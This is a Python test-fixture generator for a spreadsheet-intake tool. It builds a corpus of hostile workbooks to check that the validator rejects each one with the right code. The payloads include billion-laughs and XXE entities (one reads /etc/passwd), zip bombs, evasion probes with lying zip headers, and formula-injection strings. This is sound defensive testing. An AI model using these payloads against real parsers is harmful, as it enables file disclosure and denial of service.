"""Generate the hostile-returns corpus: one file per kind of damaged, wrong or
malicious return (issue 6, docs/workflow.md#damaged-and-hostile-files), each
with the finding code it must get.

Every case is made by code, starting from the REAL workbooks a workspace issued
for round 3 (filled in with openpyxl the way a center would, then changed at the
byte, zip-member or XML level the way the case needs); nothing opaque is
committed. Run it on its own to look at the files::

    python3 tests/hostile/make_corpus.py /tmp/corpus

which builds a fresh sample workspace, issues round 3 and writes the corpus to
the folder given (plus ``expected.json``: file name → finding code).

Cases that need headless LibreOffice (.ods; a real .xls) or msoffcrypto-tool (a
really encrypted workbook) fall back to a hand-made file or are left out; see
``NEEDS_LIBREOFFICE`` and ``make_corpus(..., libreoffice=...)``. The cases marked
"probes" in ``CASES`` are the same kinds dressed to slip past a check that only
looks in the usual place.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import struct
import sys
import tempfile
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Callable
from pathlib import Path

TESTS = Path(__file__).resolve().parents[1]
if str(TESTS) not in sys.path:  # run as a script: make helpers importable
    sys.path.insert(0, str(TESTS))

import openpyxl  # noqa: E402

from helpers import fill, fill_all_green, inputs_of, issued_for  # noqa: E402
from sheetflow.contract import META_PREFIX, META_SHEET  # noqa: E402
from sheetflow.workspace import Workspace  # noqa: E402

ROUND = 3

# Which center's workbook each case starts from. Cases that must still be
# *accepted* (with a warning) each get a center of their own, because a later
# accepted return of a center supersedes an earlier one; rejected cases may share.
REJECTED_CENTER = "Digitaliseringssekretariatet"
CONTROL_CENTER = "By, Erhverv og Miljø"
FORMULA_CELL_CENTER = "Ejendomme"
INJECTION_CENTER = "HR og Organisationsudvikling"
ODS_CENTER = "Politisk Sekretariat/Direktionen"
TOO_LONG_CENTER = "Politisk Sekretariat"
LOOK_ALIKE_CENTER = "Arbejdsmarked"
PREFIXED_CENTER = "Politisk Sekretariat"
# Centers whose workbooks no case uses: free for valid returns in the same batch.
FREE_CENTERS = ("Skoler, Institutioner og Kultur", "Økonomi og Styring", "Arbejdsmarked")

# Texts a spreadsheet could run as a formula or DDE link (formula injection).
INJECTION_TEXTS = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"Klik her")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
)
# A Cyrillic capital A (U+0410) where the Latin A belongs.
LOOK_ALIKE_NAME = "\u0410rbejdsmarked"
CONTROL_TEXT = "Forsinket\x07 pga. \x1b[31mleverandør"
TOO_LONG = 40_000  # characters; Excel holds at most 32,767 in a cell
BOMB_BYTES = 300 * 1024 * 1024

LOCK_NAME = "~$Digitaliseringssekretariatet_retur.xlsx"
ACCEPTED = ""  # the expected "code" of a case that must be read and accepted

# Every case: file name → the finding code it must get (exactly as catalogued).
CASES: dict[str, str] = {
    "empty.xlsx": "file-empty",
    "truncated.xlsx": "file-truncated",
    "pdf_renamed.xlsx": "file-not-workbook",
    "csv_renamed.xlsx": "file-not-workbook",
    "legacy.xls": "file-legacy-xls",
    "libreoffice.ods": ACCEPTED,  # "read it if the reader can"
    "encrypted.xlsx": "file-encrypted",
    "macro_enabled.xlsx": "file-macro-enabled",
    "strict_ooxml.xlsx": "file-strict-ooxml",
    LOCK_NAME: "file-skipped",
    "xml_bomb.xlsx": "xml-entities",
    "external_entity.xlsx": "xml-entities",
    "zip_bomb.xlsx": "zip-bomb",
    "sheet_too_large.xlsx": "sheet-too-large",
    "control_characters.xlsx": "control-characters",
    "text_too_long.xlsx": "text-too-long",
    "formula_in_cell.xlsx": "formula-in-cell",
    "=formula_injection.xlsx": "formula-text",  # the name, too, starts with "="
    "look_alike_center.xlsx": "look-alike-text",
    # Probes: the same kinds, dressed so that a check that only looks at the
    # usual place misses them.
    "late_doctype.xlsx": "xml-entities",  # DOCTYPE after a 5 KB comment
    "lying_dimension.xlsx": "sheet-too-large",  # says A1:H13, has XFD1048576
    "lying_zip_size.xlsx": "zip-bomb",  # declares 9 KB, inflates to 300 MB
    "formula_prefixed_sheet.xlsx": "formula-in-cell",  # <x:c><x:f>, as the OpenXML SDK writes
}
# Codes that also count as handled: a reader that dies in its isolated worker.
ALSO_ACCEPTED: dict[str, set[str]] = {"lying_dimension.xlsx": {"reader-failed"}}
NEEDS_LIBREOFFICE = {"libreoffice.ods"}

SPREADSHEETML = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
STRICT_SPREADSHEETML = "http://purl.oclc.org/ooxml/spreadsheetml/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORKBOOK_TYPE = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_WORKBOOK_TYPE = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"

MINIMAL_PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>endobj\n"
    b"4 0 obj<</Length 44>>stream\nBT /F1 12 Tf 72 770 Td (Status 3. opf.) Tj ET\n"
    b"endstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)


# ------------------------------------------------------------------ zip / xml


def rewrite_zip(
    src: Path, dst: Path, change: dict[str, Callable[[bytes], bytes]] | None = None
) -> Path:
    """Copy a package member by member, changing some (name → function of the bytes)."""
    change = change or {}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        missing = set(change) - set(zin.namelist())
        assert not missing, f"{src.name} has no {missing}"
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename in change:
                data = change[info.filename](data)
            member = zipfile.ZipInfo(info.filename, info.date_time)
            zout.writestr(member, data, zipfile.ZIP_DEFLATED)
    return dst


def swap(old: bytes, new: bytes, count: int = -1) -> Callable[[bytes], bytes]:
    """A change that replaces ``old`` by ``new`` and fails loudly if ``old`` is absent
    (a case that silently changed nothing would be a valid return)."""

    def change(data: bytes) -> bytes:
        assert old in data, f"{old[:60]!r} not found"
        return data.replace(old, new, count)

    return change


def sheet_part(path: Path, sheet: str) -> str:
    """The package member holding a sheet (from workbook.xml and its relationships)."""
    with zipfile.ZipFile(path) as zf:
        book = ET.fromstring(zf.read("xl/workbook.xml"))
        rels = ET.fromstring(zf.read("xl/_rels/workbook.xml.rels"))
    rid = next(
        s.get(f"{{{REL_NS}}}id")
        for s in book.iter(f"{{{SPREADSHEETML}}}sheet")
        if s.get("name") == sheet
    )
    target = next(r.get("Target", "") for r in rels if r.get("Id") == rid).lstrip("/")
    return target if target.startswith("xl/") else f"xl/{target}"


def xml_text(text: str) -> str:
    """Text for an element: XML-escaped, with control characters written the way
    Excel writes them (``_xHHHH_``), so the part stays well-formed XML."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return re.sub(r"[\x00-\x08\x0b-\x1f]", lambda m: f"_x{ord(m.group()):04X}_", escaped)


def replace_cell(sheet_xml: bytes, addr: str, inner: str, cell_type: str | None) -> bytes:
    """Replace cell ``addr`` (keeping its style) by one holding ``inner`` XML."""
    pattern = re.compile(rf'<c r="{addr}"(?P<attrs>[^>]*?)(?:/>|>.*?</c>)'.encode(), re.S)
    m = pattern.search(sheet_xml)
    assert m, f"no cell {addr}"
    style = re.search(rb's="(\d+)"', m.group("attrs"))
    attrs = f' s="{style.group(1).decode()}"' if style else ""
    if cell_type:
        attrs += f' t="{cell_type}"'
    new = f'<c r="{addr}"{attrs}>{inner}</c>'.encode()
    return sheet_xml[: m.start()] + new + sheet_xml[m.end() :]


def inline_string(text: str) -> str:
    return f'<is><t xml:space="preserve">{xml_text(text)}</t></is>'


# -------------------------------------------------------------- other formats


def cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE compound file (CFB v3, 512-byte sectors) holding ``streams``.

    Streams are padded to the 4,096-byte mini-stream cutoff so they live in
    regular sectors; one FAT sector (at most 126 data sectors) is plenty here.
    """
    end, free, fat_sect, nostream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    names = sorted(streams, key=lambda n: (len(n), n.upper()))
    assert len(names) <= 3
    fat = [fat_sect, end]  # sector 0: the FAT, sector 1: the directory
    data = b""
    starts = {}
    for name in names:
        body = streams[name].ljust(4096, b"\0")
        body += b"\0" * (-len(body) % 512)
        first = len(fat)
        count = len(body) // 512
        fat += [first + i + 1 for i in range(count - 1)] + [end]
        starts[name] = (first, len(streams[name]) if len(streams[name]) >= 4096 else len(body))
        data += body
    assert len(fat) <= 128, "too much data for one FAT sector"
    fat += [free] * (128 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        return (
            raw.ljust(64, b"\0")
            + struct.pack("<HBB", len(raw), kind, 1)
            + struct.pack("<III", nostream, right, child)
            + b"\0" * 16  # CLSID
            + b"\0" * 4  # state bits
            + b"\0" * 16  # creation and modification time
            + struct.pack("<IQ", start, size)
        )

    directory = entry("Root Entry", 5, 1 if names else nostream, nostream, end, 0)
    for i, name in enumerate(names):
        right = i + 2 if i + 1 < len(names) else nostream
        directory += entry(name, 2, nostream, right, *starts[name])
    directory = directory.ljust(512, b"\0")
    header = (
        bytes.fromhex("D0CF11E0A1B11AE1")
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x003E, 0x0003, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIII", 0, 1, 1, 0, 4096)
        + struct.pack("<IIII", end, 0, end, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", free) * 108
    )
    assert len(header) == 512
    return header + struct.pack("<128I", *fat) + directory + data


def hand_made_xls() -> bytes:
    """An OLE file with a 'Workbook' stream starting with a BIFF8 BOF record."""
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x0206)
    eof = struct.pack("<HH", 0x000A, 0)
    return cfb({"Workbook": bof + eof})


def hand_made_encrypted(package: bytes) -> bytes:
    """The container Excel writes for a password-protected workbook: an OLE file
    with 'EncryptionInfo' (agile, version 4.4) and 'EncryptedPackage' streams."""
    info = struct.pack("<HHI", 4, 4, 0x40) + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
        b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption">'
        b'<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" '
        b'cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" '
        b'saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>'
    )
    # Not real AES: the size prefix and scrambled bytes stand in for the cipher text.
    scrambled = bytes(b ^ 0xA5 for b in package[: 60 * 512 - 8])
    return cfb(
        {"EncryptionInfo": info, "EncryptedPackage": struct.pack("<Q", len(package)) + scrambled}
    )


def encrypt(src: Path, dst: Path, password: str = "hemmelig") -> str:
    """Encrypt a workbook with a password: really (msoffcrypto-tool) if installed,
    else the same container made by hand. Returns how it was made."""
    try:
        from msoffcrypto.format.ooxml import OOXMLFile
    except ImportError:
        dst.write_bytes(hand_made_encrypted(src.read_bytes()))
        return "hand-made CFB"
    with src.open("rb") as fh, dst.open("wb") as out:
        OOXMLFile(fh).encrypt(password, out)
    return "msoffcrypto-tool"


def lock_file(user: str = "Digi bruger") -> bytes:
    """The 165-byte owner file Excel writes next to an open workbook (``~$name``)."""
    ansi = bytes([len(user)]) + user.encode("latin-1").ljust(53, b" ")
    wide = bytes([len(user), 0]) + user.encode("utf-16-le")
    return (ansi + wide).ljust(165, b" ")[:165]


def zeros_member(zf: zipfile.ZipFile, name: str, size: int) -> None:
    """Stream ``size`` bytes of zeros into a deflated member (small on disk)."""
    chunk = b"\0" * (1 << 20)
    info = zipfile.ZipInfo(name, (2017, 10, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    with zf.open(info, "w", force_zip64=True) as fh:
        left = size
        while left > 0:
            fh.write(chunk[: min(left, len(chunk))])
            left -= len(chunk)


def declare_size(path: Path, member: str, size: int) -> None:
    """Make the zip headers (local and central) lie about a member's uncompressed size."""
    data = bytearray(path.read_bytes())
    name = member.encode()
    at = data.find(b"PK\x01\x02")
    patched = 0
    while at != -1:
        length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + length] == name:
            struct.pack_into("<I", data, at + 24, size)
            local = struct.unpack_from("<I", data, at + 42)[0]
            assert data[local : local + 4] == b"PK\x03\x04"
            struct.pack_into("<I", data, local + 22, size)
            patched += 1
        at = data.find(b"PK\x01\x02", at + 4)
    assert patched == 1, f"{member} not found once in {path.name}"
    path.write_bytes(bytes(data))


def prefixed(sheet_xml: bytes, prefix: bytes = b"x") -> bytes:
    """The same sheet with the SpreadsheetML namespace bound to a prefix (<x:c>)."""
    xml = sheet_xml.replace(b'<worksheet xmlns="', b"<worksheet xmlns:" + prefix + b'="', 1)
    return re.sub(rb"<(/?)([A-Za-z]+)(?=[\s>/])", rb"<\1" + prefix + rb":\2", xml)


# ---------------------------------------------------------------------- cases


class _Builder:
    """Makes the cases of one corpus; ``work`` holds intermediate files."""

    def __init__(self, ws: Workspace, out: Path, work: Path) -> None:
        self.ws, self.out, self.work = ws, out, work
        self.expected: dict[str, str] = {}
        self.notes: dict[str, str] = {}

    def green(self, center: str, edit=None) -> Path:
        """A complete, valid return of ``center`` (☺ and a short comment everywhere)."""
        target = self.work / f"{len(list(self.work.iterdir()))}.xlsx"
        if edit is None:
            return fill_all_green(self.ws, center, target, ROUND)
        _, layout = issued_for(self.ws, center, ROUND)
        values: dict[str, object] = {a: "☺" for a in inputs_of(layout, "smiley")}
        values.update({a: "Går efter planen." for a in inputs_of(layout, "comment")})
        return fill(self.ws, center, values, target, round_number=ROUND, edit=edit)

    def issued(self, center: str) -> Path:
        """The workbook as issued to ``center`` (blank)."""
        issued, _ = issued_for(self.ws, center, ROUND)
        return self.ws.root / issued.file

    def status_part(self, center: str, path: Path) -> str:
        return sheet_part(path, issued_for(self.ws, center, ROUND)[1].sheet)

    def comment_cells(self, center: str) -> list[str]:
        return inputs_of(issued_for(self.ws, center, ROUND)[1], "comment")

    def case(self, name: str, note: str = "") -> Path:
        self.expected[name] = CASES[name]
        if note:
            self.notes[name] = note
        return self.out / name

    def edit_status(self, center: str, name: str, change: Callable[[bytes], bytes]) -> Path:
        """A green return of ``center`` whose status-sheet XML went through ``change``."""
        src = self.green(center)
        return rewrite_zip(src, self.case(name), {self.status_part(center, src): change})

    def set_comment(self, center: str, name: str, inner: str, cell_type: str | None) -> Path:
        """A green return of ``center`` whose first comment cell holds ``inner`` XML."""
        cell = self.comment_cells(center)[0]
        return self.edit_status(center, name, lambda x: replace_cell(x, cell, inner, cell_type))


def _unreadable(b: _Builder) -> None:
    b.case("empty.xlsx").write_bytes(b"")
    data = b.green(REJECTED_CENTER).read_bytes()
    b.case("truncated.xlsx").write_bytes(data[: len(data) // 2])
    b.case("pdf_renamed.xlsx").write_bytes(MINIMAL_PDF)
    # What "Save as CSV" makes of a filled status sheet, renamed back to .xlsx.
    _, layout = issued_for(b.ws, REJECTED_CENTER, ROUND)
    book = openpyxl.load_workbook(b.green(REJECTED_CENTER), read_only=True)
    text = io.StringIO()
    writer = csv.writer(text, delimiter=";")
    for row in book[layout.sheet].iter_rows(values_only=True):
        writer.writerow(["" if v is None else v for v in row])
    book.close()
    b.case("csv_renamed.xlsx").write_text(text.getvalue(), encoding="utf-8")


def _legacy_and_ods(b: _Builder, libreoffice: bool) -> None:
    """A real .xls and .ods saved by LibreOffice, or a hand-made .xls without it."""
    xls = b.case("legacy.xls")
    if not libreoffice:
        xls.write_bytes(hand_made_xls())
        b.notes[xls.name] = "hand-made OLE file (LibreOffice not installed)"
        return
    from libreoffice import run_lo

    ods = b.case("libreoffice.ods", "LibreOffice 'calc8' of a filled return")
    convert = [
        (b.issued(REJECTED_CENTER), xls, "MS Excel 97"),
        (b.green(ODS_CENTER), ods, "calc8"),
    ]
    ops = [{"op": "convert", "src": str(s), "dst": str(d), "filter": f} for s, d, f in convert]
    run_lo(ops, timeout=180)  # one soffice for both
    b.notes[xls.name] = "LibreOffice 'MS Excel 97' of an issued workbook"


def _containers(b: _Builder) -> None:
    b.notes["encrypted.xlsx"] = encrypt(b.green(REJECTED_CENTER), b.case("encrypted.xlsx"))
    src = b.green(REJECTED_CENTER)
    rewrite_zip(
        src,
        b.case("macro_enabled.xlsx"),
        {"[Content_Types].xml": swap(WORKBOOK_TYPE, MACRO_WORKBOOK_TYPE)},
    )
    rewrite_zip(
        src,
        b.case("strict_ooxml.xlsx"),
        {"xl/workbook.xml": swap(SPREADSHEETML.encode(), STRICT_SPREADSHEETML.encode())},
    )
    b.case(LOCK_NAME).write_bytes(lock_file())


def _with_doctype(xml: bytes, doctype: str, before: bytes = b"") -> bytes:
    xml = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", xml)
    return b'<?xml version="1.0" encoding="UTF-8"?>\n' + before + doctype.encode() + xml


def _xml_attacks(b: _Builder) -> None:
    # Billion laughs in the shared strings of an issued workbook (the issued
    # workbooks have a shared-string table; openpyxl writes inline strings).
    lol = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    ]
    laughs = "<!DOCTYPE sst [" + "".join(lol) + "]>"
    rewrite_zip(
        b.issued(REJECTED_CENTER),
        b.case("xml_bomb.xlsx"),
        {"xl/sharedStrings.xml": lambda x: _with_doctype(swap(b"<t>", b"<t>&lol9;", 1)(x), laughs)},
    )
    # An external entity in the status sheet, used in a comment cell.
    xxe = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    cell = b.comment_cells(REJECTED_CENTER)[0]

    def external(x: bytes, before: bytes = b"") -> bytes:
        return _with_doctype(
            replace_cell(x, cell, "<is><t>&xxe;</t></is>", "inlineStr"), xxe, before
        )

    b.edit_status(REJECTED_CENTER, "external_entity.xlsx", external)
    # Probe: the same, with a 5 KB comment before the DOCTYPE (legal in the prolog).
    comment = b"<!--" + b" padding " * 600 + b"-->"
    b.edit_status(REJECTED_CENTER, "late_doctype.xlsx", lambda x: external(x, comment))


def _sizes(b: _Builder) -> None:
    # Zip bomb: ~300 MB of zeros in one member, written streaming (~300 KB on disk).
    bomb = b.case("zip_bomb.xlsx")
    shutil.copyfile(b.green(REJECTED_CENTER), bomb)
    with zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as zf:
        zeros_member(zf, "xl/printerSettings/printerSettings1.bin", BOMB_BYTES)

    # Probe: a status sheet that inflates to 300 MB (of white space, valid XML)
    # while the zip headers declare its original size.
    src = b.green(REJECTED_CENTER)
    part = b.status_part(REJECTED_CENTER, src)
    lying = b.case("lying_zip_size.xlsx")
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(lying, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            member = zipfile.ZipInfo(info.filename, info.date_time)
            member.compress_type = zipfile.ZIP_DEFLATED
            if info.filename != part:
                zout.writestr(member, data)
                continue
            declared = len(data)
            with zout.open(member, "w") as fh:
                fh.write(swap(b"</worksheet>", b"")(data))
                for _ in range(BOMB_BYTES >> 20):
                    fh.write(b" " * (1 << 20))
                fh.write(b"</worksheet>")
    declare_size(lying, part, declared)

    # A status sheet far larger than issued: declared A1:XFD1048576, a cell there.
    # python-calamine aborts the process on this one; openpyxl takes ~40 s.
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'

    def huge(xml: bytes) -> bytes:
        xml, count = re.subn(
            rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD1048576"/>', xml
        )
        assert count == 1, "no <dimension> to change"
        return swap(b"</sheetData>", far + b"</sheetData>")(xml)

    b.edit_status(REJECTED_CENTER, "sheet_too_large.xlsx", huge)
    # Probe: the same far cell, but the dimension still says what was issued.
    b.edit_status(
        REJECTED_CENTER,
        "lying_dimension.xlsx",
        swap(b"</sheetData>", far + b"</sheetData>"),
    )


def _cell_content(b: _Builder) -> None:
    # Control characters in a comment, written as Excel writes them (_x0007_ …).
    b.set_comment(
        CONTROL_CENTER, "control_characters.xlsx", inline_string(CONTROL_TEXT), "inlineStr"
    )
    # Text over Excel's 32,767 characters in a comment cell.
    b.set_comment(
        TOO_LONG_CENTER,
        "text_too_long.xlsx",
        inline_string("forsinket " * (TOO_LONG // 10)),
        "inlineStr",
    )
    # A formula where a comment was expected, with its cached value.
    formula = '<f>"Går efter "&amp;"planen."</f><v>Går efter planen.</v>'
    b.set_comment(FORMULA_CELL_CENTER, "formula_in_cell.xlsx", formula, "str")
    # Probe: the same formula in a sheet whose namespace has a prefix (<x:c><x:f>).
    cell = b.comment_cells(PREFIXED_CENTER)[0]
    b.edit_status(
        PREFIXED_CENTER,
        "formula_prefixed_sheet.xlsx",
        lambda x: prefixed(replace_cell(x, cell, formula, "str")),
    )

    # Formula injection: texts a spreadsheet could run, typed into comments.
    cells = b.comment_cells(INJECTION_CENTER)
    assert len(cells) >= len(INJECTION_TEXTS)

    def inject(xml: bytes) -> bytes:
        for addr, text in zip(cells, INJECTION_TEXTS, strict=False):
            xml = replace_cell(xml, addr, inline_string(text), "inlineStr")
        return xml

    b.edit_status(INJECTION_CENTER, "=formula_injection.xlsx", inject)

    # A Cyrillic look-alike letter in the center name (property and hidden sheet).
    def spoof(wb: openpyxl.Workbook) -> None:
        wb.custom_doc_props[META_PREFIX + "center"].value = LOOK_ALIKE_NAME
        for row in wb[META_SHEET].iter_rows(min_col=1, max_col=2):
            if row[0].value == "center":
                row[1].value = LOOK_ALIKE_NAME
                return
        raise AssertionError(f"no center in {META_SHEET}")

    shutil.copyfile(b.green(LOOK_ALIKE_CENTER, edit=spoof), b.case("look_alike_center.xlsx"))


def injection_cells(ws: Workspace) -> dict[str, str]:
    """The comment cells of the formula-injection case → the text typed there."""
    cells = inputs_of(issued_for(ws, INJECTION_CENTER, ROUND)[1], "comment")
    return dict(zip(cells, INJECTION_TEXTS, strict=False))


def make_corpus(
    ws: Workspace,
    out_dir: Path,
    *,
    libreoffice: bool | None = None,
    notes: dict[str, str] | None = None,
) -> dict[str, str]:
    """Write one hostile file per kind into ``out_dir``; file name → expected code.

    ``ws`` must have round 3 issued. An expected code of ``""`` (``ACCEPTED``)
    means the file must be read and accepted. ``libreoffice`` (default: when
    headless LibreOffice is installed) makes the .xls and the .ods with it;
    without it the .xls is hand-made and the .ods case is left out. ``notes``,
    if given, receives how some cases were made (file name → text).
    """
    if libreoffice is None:
        from libreoffice import HAVE_LIBREOFFICE

        libreoffice = HAVE_LIBREOFFICE
    out_dir.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory(prefix="hostile-") as tmp:
        b = _Builder(ws, out_dir, Path(tmp))
        _unreadable(b)
        _legacy_and_ods(b, libreoffice)
        _containers(b)
        _xml_attacks(b)
        _sizes(b)
        _cell_content(b)
    if notes is not None:
        notes.update(b.notes)
    return b.expected


def main(argv: list[str]) -> int:
    import json

    from sheetflow.issue import issue_round
    from sheetflow.register import init_workspace

    if len(argv) != 1:
        print("usage: python3 tests/hostile/make_corpus.py OUT_DIR", file=sys.stderr)
        return 2
    out = Path(argv[0])
    with tempfile.TemporaryDirectory(prefix="hostile-ws-") as tmp:
        ws = Workspace.at(Path(tmp) / "ws")
        init_workspace(ws, "sample")
        issue_round(ws, ROUND)
        expected = make_corpus(ws, out)
    (out / "expected.json").write_text(
        json.dumps(expected, ensure_ascii=False, indent=2) + "\n", encoding="utf-8"
    )
    for name, code in expected.items():
        size = (out / name).stat().st_size
        print(f"{name:32} {size:>9} bytes  {code or 'accepted'}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
